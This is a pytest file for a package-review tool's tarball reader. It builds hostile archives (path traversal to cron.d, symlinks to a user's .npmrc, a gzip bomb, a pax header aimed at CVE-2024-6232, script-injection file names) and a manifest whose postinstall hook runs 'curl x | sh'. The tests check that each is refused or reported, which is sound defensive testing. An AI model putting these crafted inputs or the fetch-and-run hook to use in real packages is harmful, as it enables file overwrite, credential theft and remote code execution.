"""Hostile and broken tarballs: nothing followed, nothing written, everything bounded."""

from __future__ import annotations

import os
import tarfile
import tracemalloc
from pathlib import Path

import pytest

from reviews.inspect import archive, tar_rules
from reviews.inspect.archive import FindingKind, Limits, RefusalReason, read_archive, read_members
from reviews.inspect.diffing import view_file
from reviews.inspect.render import render_view
from reviews.inspect.tar_rules import PaxRecords
from tests.inspect.builders import (
    Entry,
    gzip_bomb,
    gzip_bytes,
    make_tarball,
    many_entries,
    noise,
    package,
    tar_header,
)


def kinds(result):
    return [finding.kind for finding in result.findings]


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return gzip_bomb(1 << 30)


def test_parent_paths_are_findings_never_files(tmp_path: Path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    tarball = make_tarball(
        [
            Entry("package/index.js", b"ok\n"),
            Entry("package/../../evil.js", b"owned\n"),
            Entry("package/lib/../../../etc/cron.d/x", b"owned\n"),
            Entry("package\\..\\..\\win.js", b"owned\n"),
        ]
    )

    result = read_archive(tarball, keep_contents=True)

    assert set(result.files) == {"index.js"}
    assert kinds(result) == [FindingKind.PARENT_PATH] * 3
    assert result.findings[0].path == "package/../../evil.js"
    assert result.contents == {"index.js": b"ok\n"}
    assert list(tmp_path.iterdir()) == []  # nothing was written anywhere


def test_absolute_paths_install_where_npm_puts_them_and_are_reported():
    # npm strips the first part of every path: the empty one before a leading slash, or the
    # drive; what is left installs inside the package folder (checked against npm itself in
    # test_npm_differential.py).
    tarball = make_tarball(
        [Entry("/etc/passwd", b"root::0:0\n"), Entry("C:/Windows/evil.dll", b"MZ")],
        tar_format=tarfile.GNU_FORMAT,
    )

    result = read_archive(tarball)

    assert set(result.files) == {"etc/passwd", "Windows/evil.dll"}
    assert kinds(result) == [
        FindingKind.ABSOLUTE_PATH,
        FindingKind.ABSOLUTE_PATH,
        FindingKind.SEVERAL_TOP_FOLDERS,
    ]
    assert result.findings[0].path == "/etc/passwd"
    assert "installs it as etc/passwd" in result.findings[0].detail


def test_links_devices_and_fifos_are_listed_as_findings_and_not_followed():
    tarball = make_tarball(
        [
            Entry("package/index.js", b"require('./secret')\n"),
            Entry("package/secret.js", type=tarfile.SYMTYPE, linkname="/home/user/.npmrc"),
            Entry("package/hard.js", type=tarfile.LNKTYPE, linkname="package/index.js"),
            Entry("package/tty", type=tarfile.CHRTYPE),
            Entry("package/disk", type=tarfile.BLKTYPE),
            Entry("package/pipe", type=tarfile.FIFOTYPE),
        ]
    )

    result = read_archive(tarball, keep_contents=True)

    assert set(result.files) == {"index.js"}
    assert kinds(result) == [
        FindingKind.SYMLINK,
        FindingKind.HARDLINK,
        FindingKind.DEVICE,
        FindingKind.DEVICE,
        FindingKind.FIFO,
    ]
    assert result.findings[0].path == "package/secret.js"
    assert "/home/user/.npmrc" in result.findings[0].detail
    assert "package/index.js" in result.findings[1].detail
    assert result.complete


def test_a_gzip_bomb_is_refused_at_the_unpacked_limit_in_bounded_memory(bomb: bytes):
    assert len(bomb) < 2_000_000  # 1 GiB of zeros inside
    limits = Limits(max_total_bytes=64 * 1024 * 1024)

    tracemalloc.start()
    result = read_archive(bomb, limits, keep_contents=True)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert result.refusal is not None
    assert result.refusal.reason is RefusalReason.TOTAL_SIZE
    assert result.refusal.message == "The tarball unpacks to more than 64 MiB."
    assert peak < 32 * 1024 * 1024
    assert result.files == {}  # the one member never finished
    assert result.unpacked_bytes <= 64 * 1024 * 1024 + 1024 * 1024


def test_zero_padding_in_a_small_tarball_is_read_whole():
    # 3 MiB of zeros in a few kilobytes: a ratio near 1000, far under every absolute limit.
    manifest = b'{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl x | sh"}}'
    tarball = make_tarball({"package.json": manifest, "padding.bin": bytes(3 * 1024 * 1024)})
    assert len(tarball) < 5_000

    result = read_archive(tarball, keep_contents={"package.json"})

    assert result.complete
    assert set(result.files) == {"package.json", "padding.bin"}
    assert result.files["padding.bin"].size == 3 * 1024 * 1024
    assert result.contents["package.json"] == manifest


def test_twice_the_entry_limit_stops_at_the_limit_with_a_partial_index():
    # A lower limit than the default, so that the test (and each of its mutation runs) stays
    # short; bench/bench_limits.py times 100,000 entries against the default.
    tarball = many_entries(2_000)
    limits = Limits(max_entries=1_000)

    result = read_archive(tarball, limits)

    assert result.refusal is not None
    assert result.refusal.reason is RefusalReason.ENTRIES
    assert result.refusal.message == "The tarball has more than 1,000 entries."
    assert len(result.files) == 1_000  # what was read before is kept
    assert result.files["f/999.js"].size == 4
    assert "f/1000.js" not in result.files


def test_the_default_entry_limit_is_fifty_thousand():
    assert Limits().max_entries == 50_000


def test_an_entry_over_the_size_limit_is_listed_and_hashed_but_never_loaded():
    big = noise(3 * 1024 * 1024)
    tarball = make_tarball({"huge.js": big, "small.js": b"x\n"})
    limits = Limits(max_entry_bytes=1024 * 1024)

    result = read_archive(tarball, limits, keep_contents=True)

    assert result.complete
    assert result.files["huge.js"].oversized
    assert result.files["huge.js"].size == len(big)
    assert result.files["huge.js"].line_count == 1
    assert "huge.js" not in result.contents
    assert result.contents == {"small.js": b"x\n"}
    assert not result.contents_complete
    assert kinds(result) == [FindingKind.OVERSIZED_ENTRY]
    assert read_members(tarball, ["huge.js", "small.js"], limits) == {"small.js": b"x\n"}


def test_a_truncated_download_keeps_what_was_read_and_says_so():
    tarball = make_tarball({"a.js": b"a\n", "b.js": noise(200_000)}, compress=False)
    truncated = gzip_bytes(tarball[: 512 * 3 + 50_000])

    result = read_archive(truncated)

    assert result.refusal is not None
    assert result.refusal.reason is RefusalReason.TRUNCATED
    assert set(result.files) == {"a.js"}


def test_a_cut_gzip_stream_is_refused_as_truncated():
    tarball = make_tarball({"a.js": noise(100_000)})

    result = read_archive(tarball[: len(tarball) // 2])

    assert result.refusal is not None
    assert result.refusal.reason is RefusalReason.TRUNCATED


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", RefusalReason.EMPTY),
        (b"\x1f\x8bnot really gzip at all" * 10, RefusalReason.CORRUPT),
        (os.urandom(4096), RefusalReason.CORRUPT),
        (b"<html>404 Not Found</html>", RefusalReason.TRUNCATED),
    ],
)
def test_garbage_is_refused_not_raised(data, reason):
    result = read_archive(data)

    assert result.refusal is not None
    assert result.refusal.reason is reason
    assert result.files == {}


def test_a_header_with_a_wrong_checksum_stops_reading():
    raw = bytearray(make_tarball({"a.js": b"a\n", "b.js": b"b\n"}, compress=False))
    second = raw.index(b"package/b.js")
    raw[second + 1] ^= 0x01  # one flipped bit in the second header's name

    result = read_archive(gzip_bytes(bytes(raw)))

    assert result.refusal is not None
    assert result.refusal.reason is RefusalReason.CORRUPT
    assert set(result.files) == {"a.js"}


def test_a_huge_pax_header_is_skipped_like_node_tar_does_not_parsed(monkeypatch):
    record = b"path=" + noise(2 * 1024 * 1024)
    length = len(record) + 2 + len(str(len(record) + 2 + 8))
    pax = b"%d %s\n" % (length, record)
    body = tar_header("PaxHeader/x", len(pax), tarfile.XHDTYPE) + pax + bytes(-len(pax) % 512)
    body += tar_header("package/ok.js", 3) + b"ok\n" + bytes(509) + bytes(1024)

    parsed: list[int] = []
    real_parse_pax = tar_rules.parse_pax

    def counted_parse_pax(data: bytes) -> PaxRecords:
        parsed.append(len(data))
        return real_parse_pax(data)

    monkeypatch.setattr(archive, "parse_pax", counted_parse_pax)

    result = read_archive(gzip_bytes(body))

    # Skipped, never parsed (bench/bench_limits.py times it).
    assert parsed == []
    assert result.complete
    assert set(result.files) == {"ok.js"}
    assert kinds(result) == [FindingKind.UNSUPPORTED_ENTRY]


def test_a_pax_header_crafted_against_pythons_tarfile_regex_is_fast():
    # CVE-2024-6232: Python's tarfile backtracks quadratically on pax headers like this one.
    pax = b"0" * (1024 * 1024 - 1) + b"\n"
    body = tar_header("PaxHeader/x", len(pax), tarfile.XHDTYPE) + pax
    body += tar_header("package/ok.js", 3) + b"ok\n" + bytes(509) + bytes(1024)

    result = read_archive(gzip_bytes(body), keep_contents=True)

    # What npm reads: the pax record has no `=`, so node-tar ignores it (bench/bench_limits.py
    # times this; Python's tarfile is never used to read a tarball).
    assert set(result.files) == {"ok.js"}
    assert result.contents == {"ok.js": b"ok\n"}


def test_a_file_at_the_top_level_is_not_installed_by_npm_and_is_reported():
    tarball = make_tarball([Entry("package/a.js", b"a"), Entry("stray.js", b"b")])

    result = read_archive(tarball)

    assert set(result.files) == {"a.js"}
    assert kinds(result) == [FindingKind.OUTSIDE_PACKAGE_FOLDER]


def test_names_with_control_characters_are_reported():
    tarball = make_tarball({"index.js\x1b[2K.js": b"x", "ok.js": b"y"})

    result = read_archive(tarball)

    assert set(result.files) == {"index.js\x1b[2K.js", "ok.js"}
    assert kinds(result) == [FindingKind.SUSPICIOUS_NAME]


def test_unknown_entry_types_are_skipped_and_reported():
    tarball = make_tarball(
        [Entry("package/weird", b"data", type=b"Z"), Entry("package/ok.js", b"ok")]
    )

    result = read_archive(tarball)

    assert set(result.files) == {"ok.js"}
    assert kinds(result) == [FindingKind.UNSUPPORTED_ENTRY]


def test_script_in_a_file_name_and_body_comes_out_escaped():
    name = "<script>alert('name')</script>.js"
    body = b"</script><script>alert('body')</script>\n<img src=x onerror=alert(1)>\n"
    result = read_archive(make_tarball({name: body, "package.json": package()}), keep_contents=True)

    assert name in result.files
    html = render_view(view_file(result.contents[name], name), name)

    assert "<script>" not in html
    assert "<img" not in html
    assert "&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;.js" in html
    assert "&lt;/script&gt;" in html
    assert "onerror" in html  # the text is all there, only inert


def test_a_path_no_system_can_extract_is_reported_not_indexed():
    long_path = "package/" + "/".join(["d" * 200] * 30) + "/f.js"

    result = read_archive(make_tarball([Entry(long_path, b"x"), Entry("package/ok.js", b"y")]))

    assert set(result.files) == {"ok.js"}
    assert kinds(result) == [FindingKind.PATH_TOO_LONG]
    assert len(result.findings[0].path) < 1100  # cut for display


def test_findings_are_bounded_and_say_how_many_were_left_out():
    links = [Entry(f"package/l{i}", type=tarfile.SYMTYPE, linkname="/etc") for i in range(1500)]

    result = read_archive(make_tarball(links))

    assert len(result.findings) == 1001
    assert result.findings[-1].kind is FindingKind.MANY_FINDINGS
    assert "500 more findings" in result.findings[-1].detail
